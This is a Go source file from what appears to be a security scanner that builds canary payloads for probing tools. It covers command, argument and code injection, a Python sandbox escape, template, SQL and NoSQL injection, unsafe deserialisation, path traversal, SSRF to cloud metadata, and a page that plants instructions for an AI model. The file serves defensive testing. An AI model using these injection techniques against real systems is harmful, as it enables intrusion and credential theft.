package proberun

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"path"
	"strings"

	"gauntlet/internal/leaf/probe"
)

// A Mark identifies one attempt by random values that nothing else produces.
type Mark struct {
	Token string // 12 letters and digits
	Touch string // a file that does not exist, in a folder writable by anybody
	A, B  int64  // their product has at least nine digits
	C     int64  // subtracted from it, where the tool multiplies numbers in any text; else 0
}

// expression returns what a payload has the tool compute.
func (m *Mark) expression() string {
	if m.C == 0 {
		return fmt.Sprintf("%d*%d", m.A, m.B)
	}
	return fmt.Sprintf("%d*%d-%d", m.A, m.B, m.C)
}

// result returns the value of the expression.
func (m *Mark) result() int64 { return m.A*m.B - m.C }

// A Place holds the planted things that payloads lead to. An empty field means that there is none where the server runs.
type Place struct {
	Root      string // the project folder, declared as the server's root
	Outside   string // a file outside of Root with random content
	OutsideJS string // the same, a JSON document
	Sibling   string // a file in a folder whose name begins with Root's name
	Linked    string // a path below Root that leads outside through a symbolic link
	Folder    string // a folder in the start command, with a sibling and a link like Root; "" for none
	WriteDir  string // a folder outside Root, writable by anybody
	Port      int    // of the planted service on the loopback address
	Metadata  string // address of the planted metadata service, including its credentials path
	Private   string // host and port of the planted service in a private network
	Named     string // host and port of a public name that resolves to loopback
	Redirect  string // a public address without a path that redirects to the service
	ToCloud   string // one that redirects to the metadata service
}

// A Payload is one value to try, and what would prove that it worked.
type Payload struct {
	Variant string
	Value   any
	Text    string // Value as text, to remove it from answers
	Expect  []probe.Kind
	// Leads names the planted content the value leads to: "outside", "sibling", "symlink", "service", "metadata"; or "".
	Leads string
	// Whole is a whole statement with the same effect, for a tool that takes statements by design; "" if Value is one. Twin is the
	// control of all payloads.
	Whole string
	// Plant is a file that must exist first; nil for none.
	Plant *Planted
	// Escapes says that the value escapes a restriction on code, which is no tool's purpose.
	Escapes bool
}

// variant returns one payload of a class; ok is false if the place lacks what it needs.
type variant func(m Mark, p Place, seed string) (Payload, bool)

// Payloads returns the number of a target's payloads.
func (t *Target) Payloads() int { return len(t.variants) }

// Payload returns a target's n-th payload.
func (t *Target) Payload(n int, m Mark, p Place, seed string) (Payload, bool) {
	made, ok := t.variants[n](m, p, seed)
	made.set(made.Value)
	return made, ok
}

// set replaces a payload's value.
func (p *Payload) set(value any) {
	p.Value = value
	p.Text, _ = value.(string)
}

// command returns a payload that makes a shell create a file.
func command(name, format string) variant {
	return func(m Mark, _ Place, seed string) (Payload, bool) {
		return Payload{Variant: name, Value: seed + fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Whole: "touch " + m.Touch}, true
	}
}

// commandVariants are ways to add a command, most widely effective first.
var commandVariants = []variant{
	command("command substitution", "$(touch %s)"),
	command("after a semicolon", "; touch %s #"),
	command("out of double quotes", `"; touch %s #`),
	command("out of single quotes", `'; touch %s #`),
	command("backquotes", "`touch %s`"),
	// A tool may offer pipes of allowed programs, possibly touch; only a shell performs the redirection.
	command("after a pipe", "|: >%s"),
	command("after a line break", "\ntouch %s\n"),
	command("without spaces", "$(touch${IFS}%s)"),
	command("after &&", " && touch %s"),
}

// pipelineVariants keep the beginning and end of a checked command line.
var pipelineVariants = []variant{
	command("substitution in a pipeline", " | cat $(touch %s)"),
	command("after a pipeline", " | cat; touch %s"),
}

// option returns a value that a program reads as an option.
func option(name string, make func(m Mark, seed string) string, expect ...probe.Kind) variant {
	return func(m Mark, _ Place, seed string) (Payload, bool) {
		return Payload{Variant: name, Value: make(m, seed), Expect: expect}, true
	}
}

var argumentVariants = []variant{
	option("an option behind a space", func(m Mark, seed string) string { return seed + " --gauntlet-" + m.Token + "=1" }, probe.Program),
	option("ssh's ProxyCommand", func(m Mark, _ string) string { return "-oProxyCommand=touch " + m.Touch }, probe.File, probe.Program),
	option("an option instead of a name", func(m Mark, _ string) string { return "--gauntlet-" + m.Token + "=1" }, probe.Program),
	option("git's --output", func(m Mark, _ string) string { return "--output=" + m.Touch }, probe.File, probe.Program),
	option("git's upload-pack", func(m Mark, _ string) string { return "--upload-pack=touch " + m.Touch }, probe.File, probe.Program),
}

func code(name, format string) variant {
	return func(m Mark, _ Place, _ string) (Payload, bool) {
		return Payload{Variant: name, Value: fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}}, true
	}
}

// escape returns code that works without what a tool removed from the environment of code.
func escape(name, format string) variant {
	return func(m Mark, _ Place, _ string) (Payload, bool) {
		return Payload{Variant: name, Value: fmt.Sprintf(format, m.Touch), Expect: []probe.Kind{probe.File}, Escapes: true}, true
	}
}

// jsRun makes Node run a command, from a script or a module.
const jsRun = "(process.mainModule?process.mainModule.require('child_process'):process.getBuiltinModule('child_process')).execSync('touch %s')"

var codeVariants = []variant{
	code("Python", "__import__('os').system('touch %s')"),
	code("JavaScript", "require('child_process').execSync('touch %s')"),
	code("JavaScript without require", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch %s')"),
	escape("Python without builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch %s')"),
	escape("out of a JavaScript string", "');require('child_process').execSync('touch %s');//"),
	escape("out of a Python string", "'+str(__import__('os').system('touch %s'))+'"),
}

var templateVariants = []variant{
	func(m Mark, _ Place, seed string) (Payload, bool) {
		e := m.expression()
		return Payload{Variant: "five template languages", Value: seed + "{{" + e + "}}${" + e + "}<%= " + e + " %>#{" + e + "}{%=" + e + "%}", Expect: []probe.Kind{probe.Product}}, true
	},
	func(m Mark, _ Place, _ string) (Payload, bool) {
		return Payload{Variant: "double braces alone", Value: "{{" + m.expression() + "}}", Expect: []probe.Kind{probe.Product}}, true
	},
	func(m Mark, _ Place, _ string) (Payload, bool) {
		value := fmt.Sprintf("{{cycler.__init__.__globals__.os.popen('touch %s').read()}}<%%= "+jsRun+" %%>", m.Touch, m.Touch)
		return Payload{Variant: "code in two template languages", Value: value, Expect: []probe.Kind{probe.File}, Escapes: true}, true
	},
}

func statement(name string, write func(product, seed string) string) variant {
	return func(m Mark, _ Place, seed string) (Payload, bool) {
		e := m.expression()
		return Payload{Variant: name, Value: write(e, seed), Expect: []probe.Kind{probe.Product}, Whole: "SELECT " + e}, true
	}
}

var sqlVariants = []variant{
	statement("a query in the place of a name", func(p, _ string) string { return "(SELECT " + p + " AS a)" }),
	statement("UNION behind a quotation mark", func(p, s string) string { return s + "' UNION SELECT " + p + "-- " }),
	statement("UNION behind a name", func(p, s string) string { return s + " UNION SELECT " + p + " -- " }),
	statement("UNION with two columns", func(p, s string) string { return s + "' UNION SELECT " + p + "," + p + "-- " }),
	statement("UNION with three columns", func(p, s string) string { return s + "' UNION SELECT " + p + "," + p + "," + p + "-- " }),
	statement("UNION with four columns", func(p, s string) string {
		return s + "' UNION SELECT " + p + "," + p + "," + p + "," + p + "-- "
	}),
	statement("a sum in a string", func(p, s string) string { return s + "'||(" + p + ")||'" }),
}

var noSQLVariants = []variant{
	func(m Mark, _ Place, seed string) (Payload, bool) {
		return Payload{Variant: "code in a condition", Value: seed + "'; return " + m.expression() + "; //", Expect: []probe.Kind{probe.Product}, Whole: m.expression()}, true
	},
}

var deserialisationVariants = []variant{
	code("Python object in YAML", "!!python/object/apply:os.system [\"touch %s\"]"),
	func(m Mark, _ Place, _ string) (Payload, bool) {
		pickle := "cos\nsystem\n(S'touch " + m.Touch + "'\ntR."
		return Payload{Variant: "Python pickle in base64", Value: base64.StdEncoding.EncodeToString([]byte(pickle)), Expect: []probe.Kind{probe.File}}, true
	},
	code("function in YAML of JavaScript", "toString: !!js/function \"function(){return "+jsRun+"}\"\n"),
	code("function in node-serialize", `{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch %s')}()"}`),
}

var crlfVariants = []variant{
	func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "a header behind a line break", Value: fmt.Sprintf("http://127.0.0.1:%d/%s\r\nX-Gauntlet-%s: 1", p.Port, m.Token+"c", m.Token), Expect: []probe.Kind{probe.Callback}, Leads: "header"}, p.Port != 0
	},
}

// line returns a value that continues on a new line.
func line(name, end string) variant {
	return func(m Mark, _ Place, seed string) (Payload, bool) {
		field := "X-Gauntlet-" + m.Token + ": 1"
		return Payload{Variant: name, Value: seed + end + field, Expect: []probe.Kind{probe.Callback}, Leads: "header", Whole: field}, true
	}
}

// lineVariants add a header field to a request or a mail.
var lineVariants = []variant{line("a header behind a line break in a text", "\r\n"), line("a header behind a line feed in a text", "\n")}

// file returns a path that leads to planted content.
func file(name, leads string, spell func(p Place) string) variant {
	return func(_ Mark, p Place, _ string) (Payload, bool) {
		v := spell(p)
		return Payload{Variant: name, Value: v, Expect: []probe.Kind{probe.Content}, Leads: leads}, v != ""
	}
}

const climb = "../../../../../../../../../../../.."

func behind(before, path string) string {
	if path == "" {
		return ""
	}
	return before + path
}

var traversalVariants = []variant{
	file("absolute path", "outside", func(p Place) string { return p.Outside }),
	file("../", "outside", func(p Place) string { return behind(climb, p.Outside) }),
	func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "absolute path, written", Value: p.WriteDir + "/" + m.Token + ".json", Expect: []probe.Kind{probe.File}}, p.WriteDir != ""
	},
	func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "../, written", Value: climb + p.WriteDir + "/" + m.Token, Expect: []probe.Kind{probe.File}}, p.WriteDir != ""
	},
	file("absolute path of a JSON document", "outside", func(p Place) string { return p.OutsideJS }),
	file("from the project folder with ../", "outside", func(p Place) string { return behind(p.Root+"/"+climb, p.Outside) }),
	file("encoded ../", "outside", func(p Place) string {
		if p.Outside == "" {
			return ""
		}
		return strings.Repeat("..%2f", 12) + strings.TrimPrefix(p.Outside, "/")
	}),
	file("file:// address", "outside", func(p Place) string { return behind("file://", p.Outside) }),
	file("encoded as a whole", "outside", func(p Place) string {
		if p.Outside == "" {
			return ""
		}
		return strings.ReplaceAll(url.PathEscape(climb+p.Outside), ".", "%2e")
	}),
	file("file:// address with ../", "outside", func(p Place) string { return behind("file://"+p.Root+"/"+climb, p.Outside) }),
	file("....//", "outside", func(p Place) string { return behind(strings.Repeat("....//", 12), strings.TrimPrefix(p.Outside, "/")) }),
	file("behind a NUL", "outside", func(p Place) string {
		if p.Outside == "" {
			return ""
		}
		return p.Outside + "\x00.txt"
	}),
}

var symlinkVariants = []variant{
	file("a link in the project folder", "symlink", func(p Place) string { return p.Linked }),
	file("a link in a folder that the command names", "symlink", func(p Place) string { return inFolder(p, "/shortcut/linked.txt") }),
	file("a link, relative", "symlink", func(p Place) string {
		if p.Linked == "" {
			return ""
		}
		return "shortcut/linked.txt"
	}),
}

// inFolder returns a path that begins like the start command's folder.
func inFolder(p Place, rest string) string {
	if p.Folder == "" {
		return ""
	}
	return p.Folder + rest
}

var prefixVariants = []variant{
	file("a folder whose name begins with the project's", "sibling", func(p Place) string { return p.Sibling }),
	file("the same by ../", "sibling", func(p Place) string {
		if p.Sibling == "" {
			return ""
		}
		at := strings.LastIndexByte(p.Root, '/')
		return p.Root + "/.." + p.Sibling[at:]
	}),
	file("a folder whose name begins with that of one that the command names", "sibling", func(p Place) string { return inFolder(p, "-private/canary.txt") }),
	file("the same by ../ alone", "sibling", func(p Place) string {
		if p.Folder == "" {
			return ""
		}
		return "../" + path.Base(p.Folder) + "-private/canary.txt"
	}),
}

// inner returns an address of the planted service.
func inner(name, format string) variant {
	return func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: name, Value: fmt.Sprintf(format, p.Port) + m.Token, Expect: []probe.Kind{probe.Content, probe.Callback}, Leads: "service"}, p.Port != 0
	}
}

// elsewhere returns another way to a planted service.
func elsewhere(name string, address func(p Place) string) variant {
	return func(m Mark, p Place, _ string) (Payload, bool) {
		a := address(p)
		return Payload{Variant: name, Value: a + "/" + m.Token, Expect: []probe.Kind{probe.Content, probe.Callback}, Leads: "service"}, a != ""
	}
}

var ssrfVariants = []variant{
	inner("127.0.0.1", "http://127.0.0.1:%d/"),
	inner("IPv4 in IPv6", "http://[::ffff:7f00:1]:%d/"),
	inner("localhost", "http://localhost:%d/"),
	elsewhere("a redirect", func(p Place) string { return p.Redirect }),
	file("file://", "outside", func(p Place) string { return behind("file://", p.Outside) }),
	elsewhere("a private address", func(p Place) string { return behind("http://", p.Private) }),
	elsewhere("a name that leads to the loopback address", func(p Place) string { return behind("http://", p.Named) }),
	inner("one number", "http://2130706433:%d/"),
	inner("0.0.0.0", "http://0.0.0.0:%d/"),
	inner("behind a user name", "http://example.com@127.0.0.1:%d/"),
	inner("short form", "http://127.1:%d/"),
}

var hostVariants = []variant{
	func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "127.0.0.1 with a port", Value: fmt.Sprintf("127.0.0.1:%d", p.Port), Expect: []probe.Kind{probe.Callback}, Leads: "service"}, p.Port != 0
	},
	inner("address with a path", "127.0.0.1:%d/"),
}

var metadataVariants = []variant{
	func(_ Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "169.254.169.254", Value: p.Metadata, Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
	},
	func(_ Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "169.254.169.254 in IPv6", Value: strings.Replace(p.Metadata, "169.254.169.254", "[::ffff:a9fe:a9fe]", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
	},
	func(_ Mark, p Place, _ string) (Payload, bool) {
		to := p.ToCloud + strings.TrimPrefix(p.Metadata, "http://169.254.169.254")
		return Payload{Variant: "a redirect", Value: to, Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.ToCloud != ""
	},
	func(_ Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "169.254.169.254 as a number", Value: strings.Replace(p.Metadata, "169.254.169.254", "2852039166", 1), Expect: []probe.Kind{probe.Content}, Leads: "metadata"}, p.Metadata != ""
	},
}

var requestPathVariants = []variant{
	func(m Mark, _ Place, _ string) (Payload, bool) {
		return Payload{Variant: "../", Value: "../" + m.Token, Expect: []probe.Kind{probe.Callback}, Leads: "parent"}, true
	},
	func(m Mark, _ Place, _ string) (Payload, bool) {
		return Payload{Variant: "encoded ../", Value: url.PathEscape("../") + m.Token, Expect: []probe.Kind{probe.Callback}, Leads: "parent"}, true
	},
}

var passthroughVariants = []variant{
	func(m Mark, p Place, _ string) (Payload, bool) {
		return Payload{Variant: "a page with an order to the model", Value: fmt.Sprintf("http://127.0.0.1:%d/page/%s", p.Port, m.Token), Expect: []probe.Kind{probe.Content}, Leads: "page"}, p.Port != 0
	},
}
